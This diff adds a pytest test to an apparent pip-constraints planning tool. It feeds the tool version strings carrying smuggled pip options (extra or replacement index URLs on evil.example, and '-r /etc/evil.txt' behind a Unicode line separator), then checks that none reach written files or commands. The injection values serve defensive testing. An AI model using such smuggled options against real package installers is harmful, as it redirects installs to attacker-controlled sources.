@@ -235,6 +235,22 @@ def test_constraints_hold_torch_where_it_is(policy):
     assert "torch<2.14,>=2.11" in constraints_text(policy, interpreter(), torch_planned=True).splitlines()
 
 
+@pytest.mark.parametrize("version", ["2.11.0\n--extra-index-url https://evil.example/simple",  # a folded Version: header
+                                     "       2.11.0\n--extra-index-url https://evil.example/simple",
+                                     "2.11.0\u2028-r /etc/evil.txt", "2.11.0 --index-url=https://evil.example"])
+@pytest.mark.parametrize("no_deps", [False, True])
+def test_the_targets_metadata_never_writes_a_line_of_the_constraints_file(tmp_path, policy, version, no_deps):
+    """The target's files are untrusted: its torch's version is held only when it parses as a version."""
+    target = interpreter(("torch", version), ("nvidia-cutlass-dsl", "4.4.0"))
+    findings = (Finding("cutedsl.version", "d", Status.FAIL, "4.4.0", remedy=Remedy(
+        "x", steps=(Step("pip-install", ("nvidia-cutlass-dsl<=4.3.5,>=4.3.0",)),))),)
+    plan = make_plan(findings, facts(target), policy, replace(opts(tmp_path), no_deps=no_deps))
+    written = [text for step in plan.steps for _, text in step.writes]
+    assert written and all(line.startswith("#") or Requirement(line) for text in written for line in text.splitlines())
+    assert not any("evil" in line for text in written for line in text.splitlines())
+    assert not any("evil" in arg for step in plan.steps for argv in step.commands for arg in argv)
+
+
 def test_plan_json_has_what_why_and_the_exact_command(tmp_path, policy):
     data = make_plan(broken_findings(), facts(BROKEN), policy, opts(tmp_path)).to_json()
     assert data["schema_version"] == 1
